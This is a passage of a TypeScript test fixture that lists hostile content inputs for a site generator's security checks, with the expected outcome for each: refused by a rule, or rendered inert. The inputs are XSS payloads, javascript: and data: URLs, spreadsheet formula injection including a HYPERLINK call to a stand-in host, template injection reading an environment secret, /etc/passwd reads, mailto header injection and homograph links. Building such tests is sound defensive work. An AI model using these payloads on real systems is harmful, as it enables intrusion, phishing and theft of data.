import { makePackage, makePdf } from "../../src/source/attachment-fixture.ts";
import { crc32, deflateSync } from "node:zlib";
import { writeSite } from "../../src/checks/example.ts";
import { formatDate } from "../../src/record/calendar.ts";
import { type ContentFiles, writeMarkdown } from "../setup/content.ts";

/** Something hostile that somebody could suggest as content. */
export interface Input {
  /** A name that no other has, in lower case words joined by hyphens: files are named after it. */
  name: string;
  /** The files that it puts into a good content folder. */
  files?: ContentFiles;
  /** Files that are links to others, with where they lead. */
  links?: Record<string, string>;
  /** What it adds to the data of YAML files. */
  data?: Record<string, object>;
  expected: Expected;
}

/** What must come of an input: an error of a rule at a line of a file, or pages that do nothing. */
export type Expected = "inert" | { rule: string; path: string; line: number };

/** Inputs of one kind. */
export interface Family {
  name: string;
  inputs: Input[];
}

/** What a hostile program calls where it runs: pages are opened with it, so that it tells. */
export const call = "canary()";

/** A host that nothing may be asked of. */
export const elsewhere = "https://canary.example";

/** A variable of the environment of the check and of the build, and what must not get out of it. */
export const secret = { name: "CANARY_SECRET", value: "nightingale-7f3a" };

/** The line of a page that its text begins on. */
const firstLine = 7;

/** The path of the page of an input. */
function pagePath(name: string, extension = "md"): string {
  return `strategy/${name}.${extension}`;
}

/** A page of the strategy with a text. `yaml` is put at the end of its front matter. */
function pageOf(text: string, title = "A page", yaml = ""): string {
  return `---\ntitle: ${title}\nsummary: A summary.\nsource: Our plan\n${yaml}---\n\n${text}\n`;
}

/** A logo that isn’t a picture of the content. */
function refusedLogo(name: string, file: string): Input {
  const organisation = JSON.stringify({ name: "A", logo: { file, alt: "A" } });
  const content = writeSite("").replace(/(?<=^organisation: ).*/, () => organisation);
  return refusedFile("own-look", name, "site.yaml", content);
}

/** Texts that a rule must refuse, on a page each. A third item is the line of the text that is at fault, from 1. */
function refusedTexts(
  rule: string,
  texts: readonly (readonly [name: string, text: string, line?: number])[],
  extension = "md",
): Input[] {
  return texts.map(([name, text, line = 1]) => {
    const path = pagePath(name, extension);
    return { name, files: { [path]: pageOf(text) }, expected: { rule, path, line: firstLine + line - 1 } };
  });
}

/** Texts that may be published, on a page each, and must do nothing there. */
function inertTexts(texts: readonly (readonly [name: string, text: string])[], extension = "md"): Input[] {
  return texts.map(([name, text]) => ({
    name,
    files: { [pagePath(name, extension)]: pageOf(text) },
    expected: "inert",
  }));
}

/** A file that a rule must refuse, at a line. */
function refusedFile(
  rule: string,
  name: string,
  path: string,
  content: string | Uint8Array,
  line = 1,
): Input {
  return { name, files: { [path]: content }, expected: { rule, path, line } };
}

/** A section as front matter has it, with its text; its heading is above both. */
export interface WrittenSection {
  id: string;
  heading: string;
  text?: string;
  [field: string]: unknown;
}

/** The file of an update. */
export function update(
  published: string,
  programme: string,
  extension: string,
  sections: WrittenSection[],
): ContentFiles {
  const data = {
    title: programme === "better-care" ? "Better Care update" : "Green Spaces update",
    programme,
    published,
    summary: `What was done by ${formatDate(published)}.`,
    sections: sections.map(({ text: _, ...section }) => section),
  };
  const text = sections.map(
    ({ heading, text = `This is about ${heading}.` }) => `## ${heading.replace(/[<>]/g, "\\$&")}\n\n${text}`,
  );
  return {
    [`updates/${published}-${programme}.${extension}`]: writeMarkdown(data, "Since last time:", ...text),
  };
}

/**
 * What is on the page that is open that could run a program or reach another host, whether or not it has.
 * Runs in the page: it can use nothing from outside itself.
 */
export function dangersOnPage(): string[] {
  const schemes = ["http:", "https:", "mailto:", "tel:"];
  const found: string[] = [];
  for (const element of document.querySelectorAll("*")) {
    const name = element.localName;
    if (
      ["iframe", "frame", "object", "embed", "base", "template", "foreignObject", "parsererror"].includes(
        name,
      )
    ) {
      found.push(`has <${name}>`);
    }
    if (name === "script" && element.getAttribute("type") === "application/ld+json") {
      JSON.parse(element.textContent);
    } else if (name === "script" && !/^\/(?:_astro|pagefind)\//.test(element.getAttribute("src") ?? "")) {
      found.push(`has a script: ${element.outerHTML.slice(0, 80)}`);
    }
    for (const { name: attribute, value } of element.attributes) {
      if (attribute.startsWith("on") || attribute === "srcdoc" || attribute === "ping") {
        found.push(`has ${attribute} on <${name}>`);
      }
      if (!/^(?:href|src|xlink:href|action|formaction|poster|data|cite|background)$/.test(attribute))
        continue;
      const base = document.URL.startsWith("http") ? document.URL : "https://example.org/";
      const scheme = URL.parse(value, base)?.protocol ?? "none";
      if (!schemes.includes(scheme)) found.push(`has ${attribute}="${value.slice(0, 60)}" on <${name}>`);
    }
  }
  return found;
}

const link = (address: string) => `[words](${address})`;
const picture = (address: string) => `![A ward with rails](${address})`;

/** Addresses that run a program or bring one, in the encodings that Markdown and browsers know. */
const addresses: Family = {
  name: "Addresses that run code",
  inputs: [
    ...refusedTexts("no-code", [
      ["javascript", link(`javascript:${call}`)],
      ["javascript-in-capitals", link(`JaVaScRiPt:${call}`)],
      ["javascript-in-brackets", link(`<javascript:${call}>`)],
      ["javascript-decimal", link(`&#106;&#97;vascript:${call}`)],
      ["javascript-hexadecimal", link(`&#x6A;&#X61;vascript:${call}`)],
      ["javascript-long-numbers", link(`&#0000106;avascript:${call}`)],
      ["javascript-colon-name", link(`javascript&colon;${call}`)],
      ["javascript-tab", link(`<java&Tab;script:${call}>`)],
      ["javascript-line-break", link(`<java&NewLine;script:${call}>`)],
      ["javascript-escaped-colon", link(`javascript\\:${call}`)],
      ["javascript-comment", link(`javascript://example.org/%0a${call}`)],
      ["javascript-autolink", `<javascript:${call}>`],
      ["javascript-definition", `[words][a]\n\n[a]: javascript:${call}`, 3],
      ["javascript-definition-unused", `Words.\n\n[a]: JAVASCRIPT:${call}`, 3],
      ["javascript-in-heading", `## ${link(`javascript:${call}`)}`],
      ["javascript-in-table", `| a |\n| --- |\n| ${link(`javascript:${call}`)} |`, 3],
      ["javascript-in-footnote", `Words.[^1]\n\n[^1]: ${link(`javascript:${call}`)}`, 3],
      ["javascript-picture", picture(`javascript:${call}`)],
      ["javascript-picture-in-link", `[![A ward with rails](/x.png)](javascript:${call})`],
      ["vbscript", link("vbscript:msgbox")],
      ["livescript", link(`livescript:${call}`)],
      ["data-page", link(`data:text/html,<script>${call}</script>`)],
      ["data-page-base64", link("data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==")],
      ["data-drawing", picture(`data:image/svg+xml,<svg/onload=${call}>`)],
      ["data-picture", picture("data:image/png;base64,iVBORw0KGgo=")],
      ["blob", link("blob:https://example.org/1")],
      ["file", link("file:///etc/passwd")],
      ["filesystem", link("filesystem:https://example.org/temporary/a.html")],
      ["view-source", link("view-source:https://example.org/")],
      ["about", link("about:blank")],
      ["web-socket", link("ws://canary.example/")],
      ["unknown-scheme", link("ms-msdt:/id")],
    ]),
    ...refusedTexts("plain-text", [
      ["javascript-after-control", link(`<&#1;javascript:${call}>`)],
      ["javascript-with-carriage-return", link(`<java&#13;script:${call}>`)],
    ]),
    ...refusedTexts("links", [
      ["javascript-percent", link(`javascript%3A${call}`)],
      ["javascript-double-entity", link(`javascript&amp;colon;${call}`)],
    ]),
    ...refusedTexts("images", [
      ["picture-elsewhere", picture(`${elsewhere}/a.png`)],
      ["picture-of-any-scheme", picture("//canary.example/a.png")],
    ]),
    ...inertTexts([
      ["javascript-as-words", `javascript:${call} is text, and so is data:text/html,x`],
      ["javascript-in-query", link(`https://example.org/?next=javascript:${call}`)],
      ["javascript-in-anchor", link(`https://example.org/#javascript:${call}`)],
      ["javascript-in-code", `\`[words](javascript:${call})\``],
    ]),
  ],
};

const title = (name: string, written: string): Input =>
  refusedFile("plain-text", name, pagePath(name), pageOf("Words.", written), 2);
const bytes = (name: string, ...values: number[]): Input =>
  refusedFile(
    "plain-text",
    name,
    pagePath(name),
    Buffer.concat([Buffer.from(pageOf("Words. ").trimEnd()), Buffer.from(values)]),
    name === "not-utf-8" || name === "cut-utf-8" ? 7 : 1,
  );

/** Characters that nobody sees: they turn text round, hide words from readers or break XML. */
const characters: Family = {
  name: "Hidden characters",
  inputs: [
    ...refusedTexts("plain-text", [
      ["right-to-left-override", "Wards are \u202Eefas\u202C."],
      ["left-to-right-override", "Wards are \u202Dsafe."],
      ["right-to-left-isolate", "Wards are \u2067safe\u2069."],
      ["left-to-right-mark", "Wards are \u200Esafe."],
      ["arabic-letter-mark", "Wards are \u061Csafe."],
      ["override-by-number", "Wards are &#8238;safe."],
      ["override-by-hexadecimal", "Wards are &#x202E;safe."],
      ["override-in-code", "Wards are `\u202Esafe`."],
      ["override-in-address", "[words](https://example.org/\u202Efdp)"],
      ["zero-width-space", "Wards are sa\u200Bfe."],
      ["zero-width-space-by-name", "Wards are sa&ZeroWidthSpace;fe."],
      ["word-joiner", "Wards are sa\u2060fe."],
      ["soft-hyphen", "Wards are sa\u00ADfe."],
      ["joiner-between-letters", "Wards are sa\u200Dfe."],
      ["non-joiner-by-number", "Wards are sa&#x200C;fe."],
      ["tag-characters", "Wards are safe.\u{E0049}\u{E0067}\u{E006E}"],
      ["invisible-plus", "Wards are 2\u20642."],
      ["annotation", "Wards are \uFFF9safe\uFFFBunsafe."],
      ["filler", "Wards are \u3164safe."],
      ["line-separator", "Wards are\u2028safe."],
      ["byte-order-mark-inside", "Wards are \uFEFFsafe."],
      ["vertical-tab", "Wards are\u000Bsafe."],
      ["nothing", "Wards are\u0000safe."],
      ["escape", "Wards are \u001B[31msafe."],
      ["backspace", "Wards are unsafe\b\b\b\b\b\bsafe."],
      ["next-line", "Wards are\u0085safe."],
      ["no-character", "Wards are \uFFFEsafe."],
      ["carriage-return-alone", "Wards are\rsafe."],
    ]),
    title("override-in-title", "Wards are \u202Esafe"),
    title("override-escaped-in-title", '"Wards are \\u202Esafe"'),
    title("control-escaped-in-title", '"Wards are \\x0bsafe"'),
    title("next-line-escaped-in-title", '"Wards are\\Nsafe"'),
    title("separator-escaped-in-title", '"Wards are\\Lsafe"'),
    title("carriage-return-escaped-in-title", '"Wards are\\rsafe"'),
    refusedFile(
      "plain-text",
      "override-escaped-in-a-list",
      "glossary.yaml",
      'a: { term: "A\\u202E", meaning: B. }\n',
    ),
    refusedFile(
      "schema",
      "override-escaped-in-a-key",
      "glossary.yaml",
      '"a\\u202E": { term: A, meaning: B. }\n',
    ),
    bytes("not-utf-8", 0xff, 0xfe),
    bytes("cut-utf-8", 0xe2, 0x80),
    refusedFile(
      "plain-text",
      "utf-16",
      pagePath("utf-16"),
      Buffer.from(`\uFEFF${pageOf("Words.")}`, "utf16le"),
    ),
    ...inertTexts([
      ["family-of-joiners", "A family: 👩‍👩‍👧‍👦, and a word in Persian: می‌خواهم."],
      ["right-to-left-words", "Words in Arabic: مرحبا, and in Hebrew: שלום."],
      ["piled-up-marks", `Words ${"e\u0301\u0302\u0303\u0304".repeat(20)}.`],
    ]),
  ],
};

/** Texts that would end what holds them, in each format that the record is published in. */
const closing = {
  page: `</title></h1></p></script><script>${call}</script>`,
  attribute: `"><img src=x onerror=${call}>`,
  apostrophe: `'><img src=x onerror='${call}'>`,
  handler: `" onfocus="${call}" autofocus tabindex="1`,
  xml: `]]></title></description></item></channel></rss><script>${call}</script>`,
  entity: `&lt;script&gt;${call}&lt;/script&gt; &a; &#0; &amp;amp;`,
  comment: `--><script>${call}</script><!--`,
  instruction: `?><?xml-stylesheet href="https://canary.example/a.xsl"?>`,
  json: `</script><!--<script>"}];${call};//\\u003cimg src=x onerror=${call}\\u003e`,
  nunjucks: `{{ {}.constructor.constructor("${call}")() }}{{ range }{# `,
  template: "${process.env.CANARY_SECRET} {process.env.CANARY_SECRET} <%= process.env.CANARY_SECRET",
  drawing: `</text></title></svg><script>${call}</script><svg onload="${call}">`,
  calendar: "A\\nEND:VEVENT\\nBEGIN:VEVENT\\;;X=1:,END:VCALENDAR",
  header: "%0d%0aSet-Cookie: a=b%0d%0a%0d%0a<script>canary()</script>",
  search: `<mark onclick="${call}"> data-pagefind-meta="title:<img src=x onerror=${call}>"`,
  formula: `=HYPERLINK("https://canary.example/?"&A1,"words")`,
  command: "=cmd|' /C calc'!A0",
  plus: "+44+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  fullwidth: "＝1+1",
  quote: '"=1+1","=2+2',
  semicolon: ";=1+1;",
};

export type Closing = keyof typeof closing;

const strategy = (name: string, data: object): ContentFiles => ({
  [pagePath(name)]: writeMarkdown(
    { title: "A page", summary: "A summary.", source: "Our plan", ...data },
    "Words.",
  ),
});

/** What can hold such a text: the field that an input writes it in. */
const places: Record<
  string,
  (name: string, text: string, index: number) => Omit<Input, "name" | "expected">
> = {
  title: (name, title) => ({ files: strategy(name, { title }) }),
  summary: (name, summary) => ({ files: strategy(name, { summary }) }),
  source: (name, source) => ({ files: strategy(name, { source }) }),
  owner: (name, owner) => ({
    files: strategy(name, { owner, reviewed: "2024-01-08", reviewBy: "2024-02-08" }),
  }),
  promise: (name, promise) => ({
    files: strategy(name, {
      commitments: [{ id: name, promise, who: promise, due: { text: promise, by: "2027-05-31" } }],
    }),
  }),
  withdrawal: (name, reason) => ({ files: strategy(name, { withdrawn: { date: "2024-02-08", reason } }) }),
  change: (name, note) => ({
    files: strategy(name, {
      published: "2024-01-08",
      changes: [{ date: "2024-02-08", kind: "correction", note }],
    }),
  }),
  update: (name, heading, index) => ({
    files: update(`2025-${String(index + 1).padStart(2, "0")}-09`, "green-spaces", "md", [
      {
        id: name,
        heading,
        workstream: "ponds",
        places: ["northtown"],
        goals: ["zero-waste"],
        commitments: [
          {
            id: name,
            promise: heading,
          },
        ],
        outcomes: [
          {
            commitment: "shorter-waits",
            status: "in progress",
            note: heading,
          },
        ],
        readings: [
          {
            measure: name,
            value: index,
            asAt: "2025-01-08",
          },
        ],
        text: `About ${name}.`,
      },
    ]),
    data: { "measures.yaml": { [name]: { label: heading, unit: heading, counts: heading, better: "up" } } },
  }),
  place: (name, text) => ({ data: { "places.yaml": { [name]: { name: text, about: text } } } }),
  term: (name, text) => ({
    data: { "glossary.yaml": { [name]: { term: text, standsFor: text, meaning: text, source: text } } },
  }),
  plan: (_name, text, index) => ({
    files: {
      [`plans/${2030 + index}-${31 + index}/index.md`]: writeMarkdown(
        { title: text, period: text, summary: text, source: text, namedOnly: [{ title: text, note: text }] },
        "Words.",
      ),
    },
  }),
  programme: (name, text) => ({
    files: {
      [`programmes/${name}.md`]: writeMarkdown({ title: text, summary: text }, "Words."),
      [`workstreams/${name}.md`]: writeMarkdown({ title: text, summary: text, programme: name }, "Words."),
    },
  }),
};

const wanted: Record<keyof typeof places, Closing[]> = {
  title: [
    "page",
    "attribute",
    "apostrophe",
    "handler",
    "xml",
    "entity",
    "comment",
    "instruction",
    "json",
    "nunjucks",
    "template",
    "header",
    "search",
  ],
  summary: ["page", "attribute", "xml", "json"],
  source: ["page", "formula"],
  owner: ["page"],
  promise: ["page", "xml", "calendar", "formula", "command", "plus", "minus", "at", "quote", "semicolon"],
  withdrawal: ["page", "entity"],
  change: ["page", "xml"],
  update: ["page", "xml", "json", "drawing", "nunjucks"],
  place: ["page", "attribute", "minus"],
  term: ["page", "json", "at"],
  plan: ["page", "apostrophe"],
  programme: ["page", "attribute", "xml"],
};

/** A text of the site itself, which every page, feed and file shows. */
const site = (name: string, data: object): Input => ({
  name,
  data: { "site.yaml": data },
  expected: "inert",
});

/** Texts of fields that break out of pages, feeds, data, calendars and tables. */
const fields: Family = {
  name: "Breaking out of formats",
  inputs: [
    ...Object.entries(wanted).flatMap(([place, closings]) =>
      closings.map((one, index): Input => {
        const name = `${place}-${one}`;
        return { name, ...places[place]!(name, closing[one], index), expected: "inert" };
      }),
    ),
    refusedFile(
      "plain-text",
      "promise-fullwidth",
      pagePath("promise-fullwidth"),
      strategy("promise-fullwidth", { commitments: [{ id: "wide", promise: closing.fullwidth }] })[
        pagePath("promise-fullwidth")
      ]!,
      7,
    ),
    site("site-organisation", {
      organisation: { name: `Example ${closing.json}`, descriptor: closing.page },
    }),
    site("site-title", { title: closing.xml }),
    site("site-description", { description: closing.attribute }),
    site("site-home", {
      home: { heading: closing.page, lead: closing.nunjucks, sources: [closing.template] },
    }),
    site("site-feed", {
      feed: { title: closing.xml, description: `${closing.instruction}${closing.entity}` },
    }),
    site("site-goals", { goals: { name: closing.page } }),
    site("site-lists", {
      sections: { strategy: closing.page, goals: closing.comment, glossary: closing.handler },
    }),
  ],
};

const script = `<script>${call}</script>`;

/** HTML that runs a program or reaches another host, wherever Markdown lets HTML stand. */
const html: Family = {
  name: "HTML in Markdown",
  inputs: [
    ...refusedTexts("no-code", [
      ["script-block", script],
      ["script-in-paragraph", `Words ${script} words.`],
      ["script-in-heading", `## Why ${script}`],
      ["script-in-underlined-heading", `Why ${script}\n===`],
      ["script-in-item", `- one\n- ${script}`, 2],
      ["script-in-nested-item", `- one\n  - two\n\n    ${script}`, 4],
      ["script-in-numbered-item", `1. ${script}`],
      ["script-in-quotation", `> ${script}`],
      ["script-in-quotation-in-item", `- > - ${script}`],
      ["script-in-table-head", `| ${script} | b |\n| --- | --- |\n| c | d |`],
      ["script-in-table-cell", `| a | b |\n| --- | --- |\n| c | ${script} |`, 3],
      ["script-in-link", `[words ${script}](/strategy/)`],
      ["script-in-emphasis", `**${script}**`],
      ["script-in-footnote", `Words.[^1]\n\n[^1]: ${script}`, 3],
      ["script-in-task", `- [x] ${script}`],
      ["script-over-lines", `<script\n  >\n${call}\n</script\n>`],
      ["script-in-capitals", `<SCRIPT>${call}</SCRIPT>`],
      ["script-of-another-host", `<script src="${elsewhere}/a.js"></script>`],
      ["script-module", `<script type="module">import "${elsewhere}/a.js"</script>`],
      ["comment-with-words-behind", `<!-- words --> ${script}`],
      ["comment-without-end", `<!-- words\n\n${script}`],
      ["comment-that-ends-early", `<!--> ${script} -->`],
      ["processing-instruction", `<?xml-stylesheet href="${elsewhere}"?>`],
      ["declaration", `<!DOCTYPE html [<!ENTITY a "${call}">]>`],
      ["cdata", `<![CDATA[${script}]]>`],
      ["image-error", `<img src=x onerror=${call}>`],
      ["drawing-load", `<svg onload=${call}></svg>`],
      ["drawing-animation", `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`],
      ["drawing-foreign", `<svg><foreignObject><body onload=${call}></foreignObject></svg>`],
      ["formula-mutation", `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`],
      ["noscript-mutation", `<noscript><p title="</noscript><img src=x onerror=${call}>"></noscript>`],
      ["details-toggle", `<details open ontoggle=${call}>words</details>`],
      ["video-source-error", `<video><source onerror=${call}></video>`],
      ["focus", `<input autofocus onfocus=${call}>`],
      ["animation-end", `<p style="animation: x 1s" onanimationend=${call}>words</p>`],
      ["frame", `<iframe src="javascript:${call}"></iframe>`],
      ["frame-document", `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`],
      ["object", `<object data="javascript:${call}"></object>`],
      ["embed", `<embed src="data:text/html,${script}">`],
      ["base", `<base href="${elsewhere}/">`],
      ["refresh", `<meta http-equiv="refresh" content="0; url=${elsewhere}">`],
      ["form", `<form action="${elsewhere}"><button>Go on</button></form>`],
      ["form-action-elsewhere", `<button form="search" formaction="${elsewhere}">Search</button>`],
      ["style", `<style>@import "${elsewhere}/a.css";</style>`],
      ["style-attribute", `<p style="background: url(${elsewhere}/a.png)">words</p>`],
      ["stylesheet", `<link rel="stylesheet" href="${elsewhere}/a.css">`],
      ["prefetch", `<link rel="prefetch" href="${elsewhere}/a">`],
      ["link-with-handler", `<a href="/" onclick="${call}">words</a>`],
      ["link-with-ping", `<a href="/" ping="${elsewhere}">words</a>`],
      ["custom-element", `<x-a onclick=${call} tabindex=1 autofocus>words</x-a>`],
      ["shadow-root", `<div><template shadowrootmode="open">${script}</template></div>`],
      ["clobbering", `<form id="document"><input name="cookie"></form>`],
      ["closing-tags", `</div></main></body></html>${script}`],
      ["search-attributes", `<p data-pagefind-meta="title">words</p>`],
    ]),
    ...refusedTexts("shown-nowhere", [["language-of-fence", `~~~"><img/src=x/onerror=${call}>\nwords\n~~~`]]),
    ...refusedTexts("template-code", [
      ["template-output", "{{ 7 * 7 }}"],
      ["template-tag", '{% include "/etc/passwd" %}'],
    ]),
    ...inertTexts([
      ["escaped-tag", `\\<script>${call}\\</script>`],
      ["tag-in-code", `\`${script}\``],
      ["tag-in-fence", `~~~\n${script}\n</code></pre><img src=x onerror=${call}>\n~~~`],
      ["tag-in-indented-code", `Words:\n\n    ${script}`],
      ["entities", `&lt;script&gt;${call}&lt;/script&gt; and &#60;img src=x onerror=${call}&#62;`],
      ["tag-never-closed", `Words <img src=x onerror=${call}\n\nand more`],
      ["image-load-with-slash", `<img/onload=${call}/src=/favicon.svg>`],
      ["tag-with-space", `< script >${call}< /script >`],
      ["title-of-link", `[All goals](/goals/ '"><img src=x onerror=${call}>')`],
      ["address-with-quotes", `[A report](<https://example.org/"onmouseover="${call}>)`],
      ["heading-of-tags", `## \\<img src=x onerror=${call}>\n\nWords.`],
      ["braces", "{process.env.CANARY_SECRET} and {{ {}.x * 7 }} and ${7 * 7} and {% include x }"],
      [
        "footnote-label",
        `Words.[^"><img/src=x/onerror=${call}>]\n\n[^"><img/src=x/onerror=${call}>]: A note.`,
      ],
      ["comment", `<!-- ${script} -->\n\nWords<!-- ${script} --> and words.`],
      ["comment-that-parts-a-tag", `Words <scr<!-- words -->ipt>${call}</scr<!-- words -->ipt>`],
      ["line-breaks", `| a<br>b |\n| --- |\n| c<br/>\\<script>d |`],
      ["emphasis-of-quotes", `**"onfocus="${call}"autofocus="**`],
      ["headings-that-clobber", "## Location\n\nWords.\n\n## Cookie\n\nWords.\n\n## Constructor\n\nWords."],
    ]),
    ...refusedTexts("markdown-marks", [
      ["double-entities", `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`],
      ["heading-attributes", `## Why {#why onclick=${call}}\n\nWords.`],
      ["directive", `:::note{onclick="${call}"}\nWords.\n:::`],
    ]),
  ],
};

/** Links that lead elsewhere than a reader sees. */
const links: Family = {
  name: "Links that mislead",
  inputs: [
    ...refusedTexts("link-hosts", [
      ["cyrillic-host", "[words](https://www.nh\u0455.example/)"],
      ["cyrillic-host-whole", "[words](https://\u0441\u0430\u0440\u0435.example/)"],
      ["greek-host", "[words](https://n\u03BFtice.example/)"],
      ["fullwidth-host", "[words](https://ｎｈｓ.example/)"],
      ["encoded-host", "[words](https://www.nh%D1%95.example/)"],
      ["punycode-host", "[words](https://xn--nh-zkc.example/)"],
      ["soft-hyphen-host", "[words](https://nh\u00ADs.example/)"],
      ["host-of-numbers", "[words](http://3221226219/)"],
      ["slash-like-host", "[words](https://nhs.uk\u2044login.example/)"],
      ["user-in-address", "[words](https://www.nhs.uk@canary.example/)"],
      ["password-in-address", "[words](https://www.nhs.uk:443@canary.example/)"],
      ["homograph-definition", "[words][a]\n\n[a]: https://www.nh\u0455.example/", 3],
      ["homograph-autolink", "<https://www.nh\u0455.example/>"],
      ["homograph-mail", "[words](mailto:care@nh\u0455.example)"],
      ["words-of-another-path", "[nhs.uk/conditions](https://canary.example/)"],
      ["homograph-after-one-slash", "[words](http:/www.nh\u0455.example/)"],
      ["homograph-after-no-slash", "[words](http:www.nh\u0455.example)"],
      ["homograph-after-a-tab", "[words](ht&Tab;tp:/www.nh\u0455.example/)"],
      ["user-after-one-slash", "[words](http:/www.nhs.uk@canary.example/)"],
      ["host-of-numbers-written-later", "[words](http://3221226219/?192.0.2.235)"],
      ["words-of-a-definition", "[nhs.uk][a]\n\n[a]: https://canary.example/"],
      ["words-with-a-soft-hyphen", "[nhs\u00AD.uk](https://canary.example/)"],
      ["words-with-a-joiner", "[nhs\u200D.uk](https://canary.example/)"],
      ["words-with-another-dot", "[nhs\u2024uk](https://canary.example/)"],
      ["words-of-another-country", "[nhs.scot](https://canary.example/)"],
      ["words-about-another-host", "[nhs.uk conditions](https://canary.example/)"],
      ["mail-with-fields", "[words](mailto:care@example.org?bcc=evil%40canary.example&body=x)"],
      ["mail-with-a-file", "[words](mailto:care@example.org?attach=/etc/passwd)"],
      ["mail-with-lines", "[words](mailto:care@example.org%0d%0aBcc:evil@canary.example)"],
      ["mail-with-encoded-lines", "[words](mailto:care@example.org%0d%0aBcc:evil)"],
      [
        "mail-with-lines-in-its-subject",
        "[words](mailto:care@example.org?subject=a%0d%0aBcc:evil@canary.example)",
      ],
      ["mail-to-two", "[words](mailto:care@example.org,evil@canary.example)"],
      ["call-of-a-code", "[words](tel:*#06#)"],
      ["call-of-an-encoded-code", "[words](tel:%2A%2321%23)"],
      ["call-with-more", "[words](tel:112?body=canary)"],
      ["title-of-another-host", '[words](https://canary.example/ "nhs.uk")'],
      ["words-of-a-homograph", "[nh\u0455.uk](https://canary.example/)"],
    ]),
    ...refusedTexts("links", [["host-that-is-none", "[words](https://nhs.uk\uFF0Fcanary.example/)"]]),
    ...refusedTexts("link-text", [
      ["words-of-another-address", "[https://www.nhs.uk/](https://canary.example/)"],
      ["words-of-another-host", "[www.nhs.uk](https://canary.example/)"],
      ["words-of-another-mail", "[care@example.org](mailto:care@canary.example)"],
      ["no-words", "[](https://canary.example/)"],
      ["no-words-that-show", "[\u00AD\u200D](https://canary.example/)"],
    ]),
    refusedFile(
      "schema",
      "navigation-elsewhere",
      "site.yaml",
      "navigation: [{ text: Home, href: //canary.example/ }]\n",
    ),
    refusedFile(
      "schema",
      "navigation-backslash",
      "site.yaml",
      'navigation: [{ text: Home, href: "/\\\\canary.example/" }]\n',
    ),
    refusedFile(
      "schema",
      "navigation-of-code",
      "site.yaml",
      'navigation: [{ text: Home, href: "javascript:canary()" }]\n',
    ),
    refusedFile(
      "schema",
      "footer-of-code",
      "site.yaml",
      'footer: [{ text: Home, href: "javascript:canary()" }]\n',
    ),
    refusedFile(
      "schema",
      "footer-without-a-secure-connection",
      "site.yaml",
      "footer: [{ text: Home, href: http://canary.example/ }]\n",
    ),
    refusedFile(
      "schema",
      "colour-that-ends-its-rule",
      "site.yaml",
      `colours: { header: "#000000} body { background: url(${elsewhere}/a.png)" }\n`,
    ),
    refusedFile("schema", "colour-that-loads", "site.yaml", `colours: { links: 'url("${elsewhere}/a")' }\n`),
    refusedFile("schema", "colour-that-imports", "site.yaml", "colours: { links: '#000000\";@use \"x' }\n"),
    refusedFile(
      "schema",
      "contact-that-is-no-address",
      "site.yaml",
      `contacts: [{ for: Press, email: 'a@example.org"onclick="canary()' }]\n`,
    ),
    refusedLogo("logo-outside", "../../secret.svg"),
    refusedLogo("logo-outside-in-signs", "..%2F..%2Fsecret.svg"),
    refusedLogo("logo-of-another-host", `${elsewhere}/logo.svg`),
    refusedLogo("logo-of-data", `data:image/svg+xml,<svg onload="${call}"/>`),
    refusedLogo("logo-that-is-no-picture", "site.yaml"),
    {
      name: "logo-with-markup",
      files: { "logo.svg": drawing('<path d="M0 0h9v9z"/>') },
      data: {
        "site.yaml": {
          organisation: { name: "A", logo: { file: "logo.svg", alt: `"><script>${call}</script>` } },
          contacts: [{ for: `"><script>${call}</script>`, email: "press@example.org" }],
          footer: [{ text: `</a><script>${call}</script>`, href: "https://www.example.org/" }],
        },
      },
      expected: "inert",
    },
    refusedFile(
      "schema",
      "branch-of-markup",
      "site.yaml",
      `repository: { address: https://code.example.org/a, branch: '"onclick="canary()', folder: content }\n`,
    ),
    refusedFile(
      "schema",
      "folder-outside",
      "site.yaml",
      "repository: { address: https://code.example.org/a, branch: main, folder: ../../.. }\n",
    ),
    refusedFile("schema", "address-of-code", "site.yaml", 'address: "javascript:canary()"\n'),
    refusedFile("schema", "address-with-path", "site.yaml", "address: https://example.org/a/b\n"),
    refusedFile(
      "schema",
      "repository-of-code",
      "site.yaml",
      'repository: { address: "javascript:canary()", branch: main, folder: content }\n',
    ),
    refusedFile(
      "schema",
      "contact-of-markup",
      "site.yaml",
      `organisation: { name: A, contact: 'a@example.org"onclick="canary()' }\n`,
    ),
    refusedFile(
      "schema",
      "contact-of-lines",
      "site.yaml",
      'organisation: { name: A, contact: "a@example.org\\nb" }\n',
    ),
    // A browser takes some of them for pages of this site, others for a host, and not every reader does the same.
    ...refusedTexts(
      "link-hosts",
      [
        "https:advice.example/a",
        "https:/advice.example/a",
        "https:///advice.example/a",
        "https:/\\\\advice.example/a",
        "https:\\\\\\\\advice.example/a",
        "http:advice.example",
        "HTTPS:/advice.example",
        "https:/goals/",
        "https://[::1]/a",
        "https://[fe80::1]:8080/a",
        "https:?a",
        "https:#a",
      ].map((address, at) => [`address-read-two-ways-${at}`, `[words](<${address}>)`] as const),
    ),
    ...inertTexts(
      [
        "https://example.org/a[1]?b[]=2#[3]",
        "https://example.org/a|b?c|d",
        "https://example.org/?a={b}&c=^d`e",
        "https://example.org/100%",
        "https://example.org/a b?c d#e f",
        "https://example.org/é/?ü=ö#ß",
        "https://example.org/(a)'b'\"c\"",
        "https://EXAMPLE.org:443/%zz",
        "mailto:care@example.org?subject=A[b]%20100%",
        "tel:+44 151 471 2200",
        "tel:(0151) 471-2200",
      ].map((address, at) => [`address-of-odd-signs-${at}`, `[words](<${address}>)`] as const),
    ),
    ...inertTexts([
      ["same-scheme", "[words](//example.org/)"],
      [
        "address-in-query",
        "[words](https://example.org/?a=https://canary.example/&b=%22%3E%3Cscript%3Ecanary()%3C/script%3E)",
      ],
      ["port-and-anchor", "[words](https://example.org:8443/#:~:text=canary)"],
    ]),
  ],
};

const env = `process.env.${secret.name}`;
const write = 'require("fs").writeFileSync("stolen.txt", "x")';

/** MDX that reads the environment, writes a file or brings code, in every place where MDX has code. */
const mdx: Family = {
  name: "Code in MDX",
  inputs: [
    ...refusedTexts(
      "no-code",
      [
        ["import-file", 'import fs from "node:fs"'],
        ["import-later", 'Words.\n\nimport { env } from "node:process"\n\nWords.', 3],
        ["import-for-effect", 'import "./../../scripts/build.ts"'],
